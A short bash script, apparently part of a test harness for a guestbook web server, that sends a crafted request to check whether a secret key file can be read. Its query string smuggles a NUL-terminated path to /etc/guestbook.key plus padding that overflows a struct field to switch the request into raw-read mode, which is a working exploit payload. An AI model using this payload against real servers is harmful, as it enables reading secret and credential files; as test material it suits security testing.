#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# attack-read.sh - make the guestbook's worker open, read and send a secret file by itself: no
# program starts, and every call is one that serving entries makes as well.
#
#	CLIENT    words before each client command (nsenter --net=...)
#	HOST      address of the server           KEY_FILE   holds the secret that must arrive
#
# Prints {"attack","effect","detail"}; effect: the secret arrived.  Exit status 0 whatever the
# effect is, 2 when the attack could not be tried.
set -u

: "${HOST:?}" "${KEY_FILE:?}"
secret=$(cat "$KEY_FILE") || exit 2

# struct job: name[64] tool[64] option[8] kind.  The path and its NUL take 19 of the 136 bytes
# before kind; 7 is KIND_RAW.
pad=$(printf '%117s' '' | tr ' ' A)
# shellcheck disable=SC2086 # words on purpose
got=$(${CLIENT:-} curl -g -s -m 8 "http://$HOST/app/entry?name=/etc/guestbook.key%00$pad%07" |
	tr -d '\0')
if [[ $got == *"$secret"* ]]; then
	effect=true detail="the key arrived on the client's own connection"
else
	effect=false detail="no key in the answer"
fi
printf '{"attack":"read","effect":%s,"detail":"%s"}\n' "$effect" "$detail"
